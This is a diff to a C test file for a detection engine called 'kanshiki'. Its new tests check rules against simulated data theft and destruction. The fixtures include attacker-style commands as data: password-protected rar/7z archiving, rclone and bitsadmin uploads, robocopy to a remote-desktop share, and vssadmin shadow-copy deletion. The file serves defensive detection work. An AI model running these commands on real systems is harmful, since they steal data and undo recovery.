@@ -176,7 +176,7 @@ TEST(theft_joins_a_packing_command_with_a_sending_one)
 	add_trace(&b, command_trace("rar.exe a -hpX -v50m C:\\perflogs\\x.rar D:\\drawings", START));
 	add_trace(&b, command_trace("rclone.exe copy C:\\perflogs remote:x", START + HOUR));
 	conclude(&b);
-	assert_string_equal(rules(&b), "kanshiki.packing medium,kanshiki.theft-episode high");
+	assert_string_equal(rules(&b), "kanshiki.packing medium,kanshiki.sending-tool medium,kanshiki.theft-episode high");
 	case_close(b.file);
 	b = begin("upload");
 	add_trace(&b, command_trace("7z a -pX C:\\perflogs\\x.7z D:\\drawings", START));
@@ -184,6 +184,74 @@ TEST(theft_joins_a_packing_command_with_a_sending_one)
 	conclude(&b);
 	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.to') FROM finding_view "
 				    "WHERE rule LIKE '%episode%'"), "203.0.113.88");
+	case_close(b.file);
+}
+
+static struct trace tool_trace(const char *program, const char *command, timestamp time)
+{
+	struct trace t = command_trace(command, time);
+
+	t.program = span_text(program);
+	return t;
+}
+
+/* Each day's bytes are those of the place that the tool's own connections name. */
+TEST(theft_is_seen_where_a_tool_sends_without_packing)
+{
+	struct building b = begin("daily");
+	struct trace own;
+
+	for (int day = 0; day < 3; day++) {
+		add_trace(&b, tool_trace("C:\\ProgramData\\r\\rclone.exe", "rclone.exe copy D:\\design remote:d",
+					 START + day * 24 * HOUR));
+		own = transfer("ws01", "203.0.113.7:443", UINT64_MAX, START + day * 24 * HOUR + TIME_SECOND);
+		own.program = SPAN("c:\\programdata\\r\\RCLONE.EXE");
+		add_trace(&b, own);
+		add_trace(&b, transfer("ws01", "203.0.113.7:443", 20 * MB, START + day * 24 * HOUR + 60 * TIME_SECOND));
+		add_trace(&b, transfer("ws01", "203.0.113.8:443", 90 * MB, START + day * 24 * HOUR + 60 * TIME_SECOND));
+	}
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.sent-by-tool high");
+	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.bytes_sent') || ' ' || json_extract(matched, "
+				    "'$.times') || ' ' || json_extract(matched, '$.to') FROM finding"),
+			    "60000000 3 203.0.113.7");
+	case_close(b.file);
+	b = begin("unknown");
+	add_trace(&b, tool_trace("C:\\x\\bitsadmin.exe", "bitsadmin /transfer j /upload /priority high https://x/ y", START));
+	add_trace(&b, tool_trace("C:\\x\\bitsadmin.exe", "bitsadmin /transfer j /download https://x/ y", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.sending-tool medium");
+	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.times') FROM finding"), "1");
+	case_close(b.file);
+	b = begin("drive");
+	add_trace(&b, tool_trace("C:\\Windows\\System32\\Robocopy.exe", "robocopy D:\\d \\\\tsclient\\C\\in /E", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.sent-by-tool high");
+	case_close(b.file);
+}
+
+TEST(theft_knows_a_programs_own_data_folder)
+{
+	struct building b = begin("own");
+	struct trace t = file_trace("created", "C:\\ProgramData\\Qx Endpoint\\q\\1.zip", START);
+
+	t.program = SPAN("C:\\Program Files\\Qx Endpoint\\agent.exe");
+	add_trace(&b, t);
+	conclude(&b);
+	assert_string_equal(rules(&b), "");
+	case_close(b.file);
+	b = begin("other");
+	t.path = SPAN("C:\\ProgramData\\Other\\1.zip");
+	add_trace(&b, t);
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.archive-made medium");
+	case_close(b.file);
+	b = begin("odd");
+	t.path = SPAN("C:\\ProgramData\\Qx Endpoint\\q\\1.zip");
+	t.program = SPAN("C:\\ProgramData\\Qx Endpoint\\agent.exe");
+	add_trace(&b, t);
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.archive-made medium");
 	case_close(b.file);
 }
 
@@ -233,6 +301,35 @@ TEST(destruction_is_seen_in_masses_of_renames_and_deletes)
 	case_close(b.file);
 }
 
+static void add_pictures(struct building *b, const char *old_ending, const char *ending)
+{
+	for (int i = 0; i < 150; i++) {
+		char path[100], old[100];
+		struct trace t;
+
+		snprintf(path, sizeof path, "D:\\photos\\2017 %d%s", i, ending);
+		snprintf(old, sizeof old, "IMG_%d%s", i, old_ending);
+		t = file_trace("renamed", path, START + i * TIME_SECOND);
+		t.name = span_text(old);
+		add_trace(b, t);
+	}
+}
+
+TEST(destruction_tells_sorting_from_encrypting)
+{
+	struct building b = begin("sorted");
+
+	add_pictures(&b, ".jpeg", ".JPG");
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.mass-sorted low");
+	case_close(b.file);
+	b = begin("disguised");
+	add_pictures(&b, ".docx", ".jpg");
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.mass-rename high");
+	case_close(b.file);
+}
+
 TEST(destruction_leaves_slow_changes_and_caches_alone)
 {
 	struct building b = begin("slow");
@@ -254,6 +351,11 @@ TEST(destruction_knows_commands_that_prevent_repair)
 	conclude(&b);
 	assert_string_equal(rules(&b), "kanshiki.shadows-removed high");
 	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "1");
+	case_close(b.file);
+	b = begin("oldest");
+	add_trace(&b, command_trace("vssadmin delete shadows /for=D: /oldest /quiet", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.oldest-shadow-removed low");
 	case_close(b.file);
 }
 
